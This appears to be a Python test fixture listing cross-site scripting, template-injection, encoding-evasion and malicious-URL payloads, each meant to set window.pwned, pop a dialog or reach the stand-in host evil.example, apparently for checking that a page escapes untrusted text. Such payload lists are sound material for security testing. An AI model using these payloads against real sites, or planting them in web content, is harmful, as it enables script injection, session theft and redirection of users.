"""What would run if a page took it for anything but text: it sets ``window.pwned``, opens a dialog or asks out."""

from typing import Final

_RUN: Final = "window.pwned=1"

MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<form action='https://evil.example/'><button autofocus>Sign in</button></form>",
    "<a href='javascript:alert(1)' autofocus>look here</a>",
    "<marquee onstart=alert(1)>x</marquee>",
)
BREAKING_OUT: Final = (
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"` onmouseover=`{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</code></pre></td></table><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
)
TEMPLATES: Final = (
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{0.__class__} {issue.__init__} {n!r:>99}",
    "%(asctime)s %s %n",
    "[look](javascript:alert(1)) ![x](https://evil.example/x.png) **bold**",
)
UNICODE: Final = (
    f"\u202e>tpircs<{_RUN}>tpircs/<\u202c",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u2028\u2029<script>{_RUN}</script>",
    f"<scr\u0131pt>{_RUN}</scr\u0131pt>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "\x1b[31mred\x1b[0m \x07\x08",
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://shop.example",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://shop.example/" onmouseover="window.pwned=1',
    "https://shop.example@evil.example/'><script>window.pwned=1</script>",
    "//evil.example/x",
)

PAYLOADS: Final = (*MARKUP, *BREAKING_OUT, *TEMPLATES, *UNICODE, *ADDRESSES)
